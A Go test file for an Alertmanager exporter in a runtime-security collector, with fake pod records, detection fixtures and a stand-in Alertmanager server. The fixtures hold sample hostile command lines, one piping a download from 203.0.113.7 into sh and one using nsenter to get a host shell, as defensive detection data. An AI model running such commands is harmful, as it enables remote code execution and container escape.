// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package alertmanagerexporter

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/otelcol-runtime-security/otelcol-runtime-security/exporter/alertmanagerexporter/internal/metadatatest"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/attrkey"
)

var testNow = time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)

// rec is one log record and its resource.
type rec struct {
	res   map[string]any
	attrs map[string]any
	ts    time.Time
}

func logsOf(recs ...rec) plog.Logs {
	ld := plog.NewLogs()
	for _, r := range recs {
		rl := ld.ResourceLogs().AppendEmpty()
		if err := rl.Resource().Attributes().FromRaw(r.res); err != nil {
			panic(err)
		}
		lr := rl.ScopeLogs().AppendEmpty().LogRecords().AppendEmpty()
		if err := lr.Attributes().FromRaw(r.attrs); err != nil {
			panic(err)
		}
		if !r.ts.IsZero() {
			lr.SetTimestamp(pcommon.NewTimestampFromTime(r.ts))
		}
	}
	return ld
}

func podRes() map[string]any {
	return map[string]any{
		attrkey.K8sNamespaceName:   "shop",
		attrkey.K8sWorkloadName:    "checkout",
		attrkey.K8sPodName:         "checkout-7d4b9c-x2x9q",
		attrkey.K8sContainerName:   "app",
		attrkey.K8sNodeName:        "node-1",
		attrkey.ContainerImageName: "registry.example.com/shop/checkout:1.4.2",
		attrkey.ContainerID:        "containerd://4f1c2a9b8e7d6c5b4a39281706f5e4d3c2b1a0",
	}
}

// incidentRec is a detection record of incident id with n detections so far.
func incidentRec(id string, n int, severity string, rules []any, chains []any) rec {
	first := testNow.Add(-10 * time.Minute)
	last := first.Add(time.Duration(n) * time.Second)
	attrs := map[string]any{
		attrkey.RuleName:                    rules[len(rules)-1],
		attrkey.Severity:                    "warning",
		attrkey.MatchedRules:                []any{rules[len(rules)-1]},
		attrkey.ThreatTechniqueID:           []any{"T1059"},
		attrkey.RuleDescription:             "A shell ran in a container.",
		attrkey.ProcessCommandLine:          "/bin/sh -c curl http://203.0.113.7/x | sh",
		attrkey.ProcessExecutablePath:       "/bin/sh",
		attrkey.ProcessParentExecutablePath: "/usr/bin/python3",
		attrkey.TetragonAncestorBinaries:    []any{"/usr/local/bin/gunicorn", "/sbin/tini"},
		attrkey.IncidentID:                  id,
		attrkey.IncidentFirstSeen:           first.Format(time.RFC3339Nano),
		attrkey.IncidentLastSeen:            last.Format(time.RFC3339Nano),
		attrkey.IncidentRules:               rules,
		attrkey.IncidentTechniques:          []any{"T1059", "T1105"},
		attrkey.IncidentDetections:          int64(n),
		attrkey.IncidentSeverity:            severity,
	}
	if len(chains) > 0 {
		attrs[attrkey.IncidentChains] = chains
	}
	return rec{res: podRes(), attrs: attrs, ts: last}
}

// loneRec is a detection without incident.
func loneRec(rule, severity string, ts time.Time) rec {
	return rec{res: podRes(), ts: ts, attrs: map[string]any{
		attrkey.RuleName:           rule,
		attrkey.Severity:           severity,
		attrkey.MatchedRules:       []any{rule},
		attrkey.ThreatTechniqueID:  []any{"T1611"},
		attrkey.ProcessCommandLine: "nsenter -t 1 -m sh",
	}}
}

// fakeAM is an Alertmanager API stand-in that records every POST and answers with the next
// status of its script (then 200).
type fakeAM struct {
	srv *httptest.Server
	mu  sync.Mutex
	// reqs are the decoded request bodies; raw the generic JSON of each.
	reqs    [][]alert
	raw     [][]map[string]any
	headers []http.Header
	paths   []string
	script  []int
	answer  string
}

func newFakeAM(t *testing.T, script ...int) *fakeAM {
	f := &fakeAM{script: script, answer: `{"code":400,"message":"start time must be before end time"}`}
	f.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var alerts []alert
		var raw []map[string]any
		_ = json.Unmarshal(body, &alerts)
		_ = json.Unmarshal(body, &raw)
		f.mu.Lock()
		f.reqs = append(f.reqs, alerts)
		f.raw = append(f.raw, raw)
		f.headers = append(f.headers, r.Header.Clone())
		f.paths = append(f.paths, r.Method+" "+r.URL.Path)
		status := http.StatusOK
		if len(f.script) > 0 {
			status, f.script = f.script[0], f.script[1:]
		}
		f.mu.Unlock()
		w.WriteHeader(status)
		if status != http.StatusOK {
			_, _ = io.WriteString(w, f.answer)
		}
	}))
	t.Cleanup(f.srv.Close)
	return f
}

func (f *fakeAM) requests() [][]alert {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([][]alert(nil), f.reqs...)
}

// newTestExporter is a started exporter posting to endpoint, with its clock at testNow.
func newTestExporter(t *testing.T, endpoint string, mutate ...func(*Config)) (*alertmanagerExporter, *componenttest.Telemetry) {
	t.Helper()
	cfg := createDefaultConfig().(*Config)
	cfg.ClientConfig.Endpoint = endpoint
	for _, m := range mutate {
		m(cfg)
	}
	require.NoError(t, cfg.Validate())
	tel := componenttest.NewTelemetry()
	t.Cleanup(func() { require.NoError(t, tel.Shutdown(context.Background())) })
	e, err := newExporter(cfg, metadatatest.NewSettings(tel))
	require.NoError(t, err)
	require.NoError(t, e.start(context.Background(), componenttest.NewNopHost()))
	t.Cleanup(func() { require.NoError(t, e.shutdown(context.Background())) })
	e.now = func() time.Time { return testNow }
	return e, tel
}
